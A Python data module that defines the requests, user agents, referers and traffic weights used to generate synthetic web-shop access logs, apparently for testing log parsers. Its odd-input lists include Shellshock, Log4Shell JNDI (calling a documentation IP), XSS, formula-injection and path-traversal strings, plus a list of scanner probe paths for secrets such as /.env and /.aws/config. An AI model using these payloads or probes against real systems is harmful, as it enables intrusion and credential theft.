"""The words that generated logs are made of. Addresses and names are reserved for documentation."""

from __future__ import annotations

from typing import Final, NamedTuple


class Page(NamedTuple):
    """What can be requested, and its response."""

    request: str
    """As logged."""
    status: int
    size: int
    """In bytes; -1 for a response without a body, logged as ``-``."""
    weight: int
    """How often it is requested, relative to the others."""
    dynamic: bool = False
    """Whether it fails when the backend does."""


def _get(target: str, size: int, weight: int, dynamic: bool = False, status: int = 200) -> Page:
    return Page(f"GET {target} HTTP/1.1", status, size, weight, dynamic)


PAGES: Final = (
    _get("/", 8120, 160, True),
    _get("/products", 15400, 90, True),
    *(_get(f"/products/{number}", 9100 + 37 * number, 5, True) for number in range(100, 125)),
    _get("/products?sort=price&page=2", 14980, 30, True),
    _get("/search?q=garden%20chair", 7210, 25, True),
    _get("/search?q=%C3%BCberdachung", 5630, 8, True),
    _get("/cart", 3100, 40, True),
    Page("POST /cart HTTP/1.1", 302, 0, 22, True),
    Page("POST /checkout HTTP/1.1", 200, 2210, 8, True),
    Page("POST /login HTTP/1.1", 302, 0, 14, True),
    Page("POST /login HTTP/1.1", 401, 1180, 5, True),
    _get("/account", 4410, 20, True),
    _get("/api/v1/stock?sku=4711", 312, 70, True),
    _get("/api/v1/stock?sku=0815", 309, 45, True),
    Page("PUT /api/v1/basket/77 HTTP/1.1", 204, -1, 10, True),
    Page("DELETE /api/v1/basket/77 HTTP/1.1", 405, 233, 2),
    _get("/static/site.3f2a.css", 22140, 60),
    _get("/static/site.3f2a.css", -1, 30, status=304),
    _get("/static/app.91cc.js", 88410, 60),
    _get("/static/app.91cc.js", -1, 34, status=304),
    _get("/static/logo.svg", 2310, 45),
    _get("/static/logo.svg", -1, 18, status=304),
    _get("/static/film.mp4", 1048576, 6, status=206),
    _get("/products/", 301, 12, status=301),
    _get("/old-shop", 318, 6, status=301),
    _get("/favicon.ico", 1150, 20),
    _get("/apple-touch-icon.png", 196, 12, status=404),
    _get("/products/9999", 2044, 9, status=404),
    _get("/internal/metrics", 199, 3, status=403),
    _get("/account/export", 610, 1, True, status=500),
    Page("GET / HTTP/1.0", 200, 8120, 6),
    Page("HEAD / HTTP/1.1", 200, -1, 14),
    Page("OPTIONS * HTTP/1.0", 200, -1, 2),
    Page('GET /search?q=\\"chair\\" HTTP/1.1', 200, 4380, 3, True),
    Page("GET /products?name=\\xe6\\xa4\\x85\\xe5\\xad\\x90 HTTP/1.1", 200, 4102, 2, True),
    Page('GET /search?q=\\"><script>alert(1)</script> HTTP/1.1', 400, 226, 2),
    Page("\\x16\\x03\\x01\\x02", 400, 226, 3),
    Page("PRI * HTTP/2.0", 400, 226, 1),
    Page("-", 408, -1, 3),
)
BOT_PAGES: Final = (
    _get("/robots.txt", 68, 20),
    _get("/sitemap.xml", 40210, 10),
    *(_get(f"/products/{number}", 9100 + 37 * number, 1, True) for number in range(100, 125)),
    _get("/products/9998", 2044, 6, status=404),
    _get("/old-shop", 318, 4, status=301),
)
SCANNED: Final = (
    "/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/phpmyadmin/index.php",
    "/admin/config.php", "/cgi-bin/.%2e/.%2e/bin/sh", "/vendor/phpunit/eval-stdin.php", "/backup.zip", "/server-status",
    "/actuator/env", "/solr/admin/info", "/boaform/admin/formLogin", "/owa/auth/logon.aspx", "/.aws/config",
)  # fmt: skip
FAILURES: Final = ((502, 157), (502, 157), (503, 299), (503, 299), (504, 167), (500, 610))

_CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0"
BROWSERS: Final = (
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36",
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36 Edg/133.0.0.0",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_CHROME} Safari/537.36",
    f"Mozilla/5.0 (Linux; Android 10; K) {_CHROME} Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.3 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:135.0) Gecko/20100101 Firefox/135.0",
)
BOTS: Final = (
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)",
    "Mozilla/5.0 (compatible; SampleCrawler/7~bl; +https://crawler.example.net/robot/)",
    "example-uptime/3.2",
    "curl/8.12.1",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
)
ODD_AGENTS: Final = (
    "-",
    "",
    'Mozilla/5.0 (compatible; \\"Quoted\\" Agent)',
    "() { :;}; echo vulnerable",
    "${jndi:ldap://203.0.113.66/a}",
    '\\"><script>alert(document.domain)</script>',
    "M\\xc3\\xbcller/1.0",
    "Browser für Bücher/1.0 (日本語)",
    "Mozilla/5.0 \\\\ backslash",
    "Mozilla/5.0 (" + "SV1; " * 120 + "end)",
    "=HYPERLINK(0)",
)
REFERERS: Final = (
    *["-"] * 5,
    *["https://www.example.com/"] * 6,
    *["https://www.example.com/products"] * 5,
    "https://www.example.com/search?q=garden%20chair",
    "https://search.example.net/?q=chairs",
    "https://search.example.net/",
    "https://news.example.org/2025/03/spring-chairs.html",
    "",
)
USERS: Final = ("alice", "bob", "carol.d", "o'brien", "grace@example.com", "jane")
OPERATIONS: Final = (
    "query user userMessages hasPermissions F0 F1",
    "query products F0",
    "query cart items F0 F2",
    "mutation addToCart",
    "mutation login",
    "query search F3",
)

# Share of the day's mean rate at each full hour, UTC: low at night, with peaks at noon and in the evening.
HOURS: Final = (
    0.46, 0.36, 0.29, 0.25, 0.27, 0.36, 0.55, 0.82, 1.06, 1.25, 1.35, 1.41,
    1.36, 1.30, 1.34, 1.36, 1.30, 1.24, 1.30, 1.44, 1.50, 1.33, 1.02, 0.72,
)  # fmt: skip
